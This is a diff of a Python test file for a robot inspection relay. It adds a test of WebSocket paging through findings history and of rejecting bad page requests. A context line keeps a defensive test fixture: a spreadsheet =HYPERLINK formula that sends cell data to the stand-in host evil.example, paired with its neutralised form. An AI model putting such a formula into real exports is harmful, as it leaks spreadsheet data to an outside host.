@@ -16,6 +16,7 @@ from relay.config import FleetConfig
 from relay.inspection.records import CaptureRecord, FindingRecord, MissionRecord, Step
 from relay.inspection.store import Store
 from tests.helpers.inspection import TOKEN, operator, relay_with_database
+from tests.wsclient import TestClient
 
 HOSTILE_CELLS = {
     '=HYPERLINK("http://evil.example/?"&A1,"open")': '\'=HYPERLINK("http://evil.example/?"&A1,"open")',
@@ -111,3 +112,49 @@ async def test_report_cells_a_spreadsheet_would_run_are_neutralised(fleet_config
     assert [rows[f"f-{i}"]["note"] for i in range(len(HOSTILE_CELLS))] == list(HOSTILE_CELLS.values())
     assert {(row["x"], row["y"]) for row in rows.values()} == {("-1.500", "2.250")}
     assert {row["readings"] for row in rows.values()} == {"gas 698.2 ppm (limit 400 ppm): over the limit"}
+
+
+def _history(tmp_path: Path, count: int) -> None:
+    """A database holding ``count`` findings, one a minute apart (the newest last)."""
+    with Store.open(str(tmp_path / "inspection.sqlite"), tmp_path / "inspection-images") as store:
+        capture = store.add_capture(CaptureRecord("c-1", "robot1", 1.5, -1.5, 2.25, 0.0, {"gas": 698.2}), None)
+        for i in range(count):
+            created = 1795388500.0 + 60 * i
+            store.add_finding(
+                FindingRecord(
+                    f"f-{i:03d}", capture.id, "robot1", -1.5, 2.25, "anomaly", f"#{i}", "rule", created, created
+                )
+            )
+
+
+async def test_the_findings_history_pages_back_to_the_first_finding_for_a_viewer_too(
+    fleet_config: FleetConfig, tmp_path: Path
+) -> None:
+    """A page holds the relay's 200 newest findings; `findings/page` reads further back, newest first, until
+    `more` is false: every finding once, in order. Bad pages are refused by name and change nothing."""
+    await asyncio.to_thread(_history, tmp_path, 230)
+    running = await relay_with_database(fleet_config, tmp_path)
+    try:
+        viewer = await TestClient.open(f"{running.ws_url}")
+        await viewer.hello()
+        seen: list[str] = []
+        before = None
+        pages = 0
+        while pages < 10:
+            pages += 1
+            request = {"identifier": "findings/page", "limit": 100} | ({} if before is None else {"before": before})
+            reply = await viewer.request(request)
+            assert reply["identifier"] == "ack", reply
+            answer = next(m for _, m in viewer.messages if m["identifier"] == "findings" and m["id"] == reply["id"])
+            found = answer["findings"]
+            assert all(f["identifier"] == "finding" and f["image"] is None for f in found)
+            seen += [f["id"] for f in found]
+            if not answer["more"]:
+                break
+            before = found[-1]["created"]
+        assert pages == 3 and seen == [f"f-{i:03d}" for i in reversed(range(230))]
+        for bad, word in (({"limit": 0}, "limit"), ({"limit": 101}, "limit"), ({"before": "yesterday"}, "before")):
+            refused = await viewer.request({"identifier": "findings/page"} | bad)
+            assert refused["identifier"] == "error" and refused["code"] == "bad_request" and word in refused["message"]
+    finally:
+        await running.runner.cleanup()
